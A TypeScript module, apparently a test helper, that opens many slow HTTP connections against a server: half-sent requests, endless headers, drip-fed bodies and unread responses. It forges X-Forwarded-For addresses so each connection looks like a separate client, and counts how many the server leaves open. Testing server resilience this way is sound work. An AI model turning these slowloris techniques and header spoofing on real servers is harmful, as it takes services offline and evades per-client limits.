import { once } from 'node:events'
import { connect, type Socket } from 'node:net'

interface SlowWay {
  /** What each line says first. */
  begin: string
  /** What it adds now and then. */
  drip?: string
  isUnread?: boolean
}

/** Lines that hold a server up without asking for much. */
export const slowWays = {
  'lines that say nothing': { begin: '' },
  'half requests': { begin: 'GET / HTTP/1.1\r\nHo' },
  'heads that never end': { begin: 'GET / HTTP/1.1\r\nHost: a\r\n', drip: 'X-More: a\r\n' },
  'bodies that never end': {
    begin:
      'POST /api/messages/ HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n' +
      'Content-Length: 60000\r\n\r\n{"message":"',
    drip: 'a',
  },
  'answers that nobody reads': {
    begin: 'GET /canada HTTP/1.1\r\nHost: a\r\n\r\n',
    isUnread: true,
  },
} satisfies Record<string, SlowWay>

const DRIP_EVERY_MS = 2_000

/** Opens them, each from an address of its own where the server believes X-Forwarded-For. */
export async function openSlowLines(url: string, way: SlowWay, count: number) {
  const { begin, drip, isUnread } = way
  const lines = Array.from({ length: count }, (_, index) => openLine(url, begin, index))
  // Who does not read does not hear either that it is over.
  if (!isUnread) for (const line of lines) line.resume()
  await Promise.all(lines.map((line) => once(line, 'connect')))
  const timer = setInterval(() => {
    for (const line of lines) if (drip && line.writable) line.write(drip)
  }, DRIP_EVERY_MS)
  return {
    /** How many the server has not ended. */
    countOpen: () => lines.filter((line) => !line.destroyed).length,
    close: () => {
      clearInterval(timer)
      for (const line of lines) line.destroy()
    },
  }
}

function openLine(url: string, begin: string, index: number) {
  const line = connectTo(url)
  line.write(begin.replaceAll('Host: a', `Host: a\r\nX-Forwarded-For: ${addressOf(index)}`))
  return line
}

export function connectTo(url: string): Socket {
  const { hostname, port } = new URL(url)
  const line = connect(Number(port), hostname)
  line.on('error', () => line.destroy())
  return line
}

/** One of 65,536, which belong to nobody. */
export const addressOf = (index: number) => `10.1.${(index >> 8) & 255}.${index & 255}`
